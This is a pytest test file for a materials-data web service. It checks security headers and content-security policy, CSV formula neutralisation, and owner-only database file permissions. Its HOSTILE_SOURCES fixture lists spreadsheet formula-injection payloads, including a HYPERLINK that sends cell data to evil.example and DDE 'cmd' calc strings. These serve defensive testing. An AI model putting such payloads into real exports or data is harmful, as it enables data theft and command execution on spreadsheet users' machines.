"""Defaults of a trustworthy service (issue #18 section 4): security headers on every answer,
CSV exports that a spreadsheet cannot run, and a store file only its owner can read."""

from __future__ import annotations

import base64
import hashlib
import re

import pytest
from fastapi.testclient import TestClient

from matforge.server import ServerSettings, create_app
from matforge.server.testing import user_headers

API = "/api/v1"
SECURITY_HEADERS = {
    "x-content-type-options": "nosniff",
    "x-frame-options": "DENY",
    "referrer-policy": "no-referrer",
}


@pytest.fixture
def served(tmp_path):
    app = create_app(
        f"sqlite:///{tmp_path / 'store.db'}", ServerSettings(model_root=tmp_path / "m")
    )
    alice = user_headers(app.state.matforge.engine, "alice")
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, alice


def _csp(response) -> dict[str, str]:
    policy = response.headers["content-security-policy"]
    return dict(d.strip().split(" ", 1) for d in policy.split(";"))


def _assert_secure(response):
    for name, value in SECURITY_HEADERS.items():
        assert response.headers.get(name) == value, (response.request.url, name)
    csp = _csp(response)
    assert csp["script-src"].startswith("'self'") and "unsafe" not in csp["script-src"]
    assert csp["frame-ancestors"] == "'none'" and csp["object-src"] == "'none'"
    assert "http" not in response.headers["content-security-policy"]  # nothing from elsewhere
    return csp


def test_security_headers_on_every_kind_of_answer(served):
    c, alice = served
    answers = {
        "api": c.get(f"{API}/projects", headers=alice),
        "ui": c.get("/ui/"),
        "ui script": c.get("/ui/app.js"),
        "docs": c.get("/docs"),
        "redoc": c.get("/redoc"),
        "openapi": c.get("/openapi.json"),
        "optimade": c.get("/optimade/v1/info"),
        "401": c.get(f"{API}/projects"),
        "404": c.get("/no/such/page"),
        "optimade 400": c.get("/optimade/v1/structures", params={"filter": "nelements =="}),
        "422": c.post(f"{API}/projects", headers=alice, json={"name": 3}),
        "413": c.post(
            f"{API}/projects",
            headers={**alice, "content-length": str(10**10)},
            content=b"{}",
        ),
    }
    expected = {"api": 200, "ui": 200, "docs": 200, "401": 401, "404": 404, "413": 413}
    for name, r in answers.items():
        if name in expected:
            assert r.status_code == expected[name], (name, r.text[:200])
        _assert_secure(r)


def test_the_docs_page_allows_exactly_its_own_inline_script(served):
    c, _ = served
    r = c.get("/docs")
    inline = re.findall(r"<script>(.*?)</script>", r.text, re.DOTALL)
    assert len(inline) == 1 and "SwaggerUIBundle" in inline[0]
    digest = base64.b64encode(hashlib.sha256(inline[0].encode()).digest()).decode()
    csp = _assert_secure(r)
    assert csp["script-src"] == f"'self' 'sha256-{digest}'"
    # other pages allow no inline script at all
    assert _csp(c.get("/ui/"))["script-src"] == "'self'"
    # the UI loads nothing but its own files (what the policy lets through)
    page = c.get("/ui/").text
    assert not re.search(r"<script>|\son\w+=|(src|href)=\"(https?:)?//", page)


def test_a_crash_answer_has_the_headers_too(served, monkeypatch):
    from matforge.server.optimade import api as optimade

    c, _ = served

    def boom(*args, **kwargs):
        raise RuntimeError("simulated crash")

    monkeypatch.setattr(optimade.Collection, "find", boom)
    r = c.get("/optimade/v1/structures")
    assert r.status_code == 500
    _assert_secure(r)


# --- CSV exports a spreadsheet cannot run ------------------------------------------------------

#: sources a careless or hostile uploader may give → the cell a spreadsheet must receive
HOSTILE_SOURCES = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "doi:10.1000/ok": "doi:10.1000/ok",  # harmless text unchanged
    "-1.5": "-1.5",  # a number written as text stays a number
}


def _frame():
    import pandas as pd

    return pd.DataFrame({"formula": ["Fe2O3", "ZnO"], "value": [-0.5, -1.25]})


def test_store_export_csv_neutralises_formulas_and_keeps_numbers(store, tmp_path):
    import pandas as pd

    for source in HOSTILE_SOURCES:
        store.add_measurements(
            _frame(),
            project="p",
            property="formation_energy",
            unit="eV/atom",
            source=source,
            allow_duplicate=True,
        )
    assert store.export(tmp_path / "out.csv") == 2 * len(HOSTILE_SOURCES)
    back = pd.read_csv(tmp_path / "out.csv", keep_default_na=False, dtype={"source": str})
    assert sorted(set(back["source"])) == sorted(HOSTILE_SOURCES.values())
    assert sorted(back["value"].unique()) == [-1.25, -0.5]  # negative numbers stay numbers
    assert back["value"].dtype.kind == "f"
    # the parquet export keeps the text exactly as stored
    store.export(tmp_path / "out.parquet")
    assert set(pd.read_parquet(tmp_path / "out.parquet")["source"]) == set(HOSTILE_SOURCES)


def test_server_csv_export_neutralises_formulas_and_keeps_numbers(served):
    import csv
    import io

    c, alice = served
    pid = c.post(f"{API}/projects", json={"name": "p"}, headers=alice).json()["id"]
    for source in HOSTILE_SOURCES:
        r = c.post(
            f"{API}/projects/{pid}/measurements",
            headers=alice,
            json={
                "property": "formation_energy",
                "unit": "eV/atom",
                "source": source,
                "allow_duplicate": True,
                "rows": [{"formula": "ZnO", "value": -1.25}],
            },
        )
        assert r.status_code == 201, r.text
    r = c.get(f"{API}/measurements.csv", params={"project_id": pid}, headers=alice)
    assert r.status_code == 200
    table = list(csv.DictReader(io.StringIO(r.text, newline="")))
    assert sorted(row["source"] for row in table) == sorted(HOSTILE_SOURCES.values())
    assert {row["value"] for row in table} == {"-1.25"}  # a number, not "'-1.25"


def test_safe_cell_leaves_numbers_and_none_alone():
    from matforge.store.spreadsheet import safe_cell

    assert [safe_cell(v) for v in (-1.5, -3, None, "-1e-3", "+2", "Fe2O3")] == [
        -1.5, -3, None, "-1e-3", "+2", "Fe2O3",
    ]  # fmt: skip
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-") == "'-"


# --- the store file is its owner's -------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
def test_a_new_sqlite_store_and_its_wal_are_owner_only(tmp_path, umask):
    import os
    import stat

    import pandas as pd

    from matforge.store import Store

    old = os.umask(umask)
    try:
        with Store(tmp_path / "lab.db") as store:
            store.add_measurements(
                pd.DataFrame({"formula": ["ZnO"], "value": [3.3]}),
                project="p",
                property="band_gap",
                unit="eV",
            )
            files = sorted(p.name for p in tmp_path.iterdir())
            assert files == ["lab.db", "lab.db-shm", "lab.db-wal"]
            for name in files:
                mode = stat.S_IMODE((tmp_path / name).stat().st_mode)
                assert mode == 0o600, (name, oct(mode))
    finally:
        os.umask(old)
    # an existing file keeps the mode its owner gave it
    os.chmod(tmp_path / "lab.db", 0o640)
    with Store(tmp_path / "lab.db"):
        assert stat.S_IMODE((tmp_path / "lab.db").stat().st_mode) == 0o640


# --- the policy in a real browser --------------------------------------------------------------


def test_the_ui_and_the_api_docs_work_under_the_policy(tmp_path):
    """Chromium loads the UI (plotly draws a figure), /docs and /redoc from a live server with
    no Content-Security-Policy violation and no script error. Skipped without Chromium; the
    full UI flow under the same policy is tests/test_ui_browser.py."""
    import os
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    playwright = pytest.importorskip("playwright.sync_api")
    from matforge.server.testing import free_port, stop_process, wait_for_port

    chromium = os.environ.get("MATFORGE_CHROMIUM") or shutil.which("chromium")
    if not chromium or not Path(chromium).exists():
        pytest.skip("no Chromium (bash scripts/ci_chromium.sh)")
    port = free_port()
    server = subprocess.Popen(
        [str(Path(sys.executable).with_name("matforge")), "serve", "--db",
         str(tmp_path / "lab.db"), "--port", str(port), "--log-level", "warning"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.STDOUT,
        env={**os.environ, "MATFORGE_HOME": str(tmp_path / "home")},
    )  # fmt: skip
    problems: list[str] = []
    try:
        wait_for_port(port, timeout=60, process=server)
        base = f"http://127.0.0.1:{port}"
        with playwright.sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=chromium, headless=True, args=["--no-sandbox", "--disable-gpu"]
            )
            page = browser.new_page()
            page.on(
                "console",
                lambda m: (
                    problems.append(m.text)
                    if m.type == "error" and "Content Security Policy" in m.text
                    else None
                ),
            )
            page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
            page.goto(f"{base}/ui/")
            page.wait_for_function("typeof Plotly !== 'undefined'")
            page.evaluate(
                """() => { const d = document.createElement('div'); d.id = 'csp-plot';
                   document.body.append(d);
                   return Plotly.newPlot(d, [{x: [1, 2, 3], y: [2, 1, 3]}], {title: {text: 't'}}); }"""
            )
            page.wait_for_selector("#csp-plot .main-svg", state="attached")
            page.goto(f"{base}/docs")
            page.wait_for_selector(".swagger-ui .info .title")
            page.wait_for_selector(".opblock-summary-path")
            page.goto(f"{base}/redoc")
            page.wait_for_selector("redoc .api-content h1", state="attached")
            browser.close()
    finally:
        stop_process(server, timeout=15)
    # nothing is even tried from outside: ReDoc's badge logo (cdn.redoc.ly) is served removed
    assert problems == []
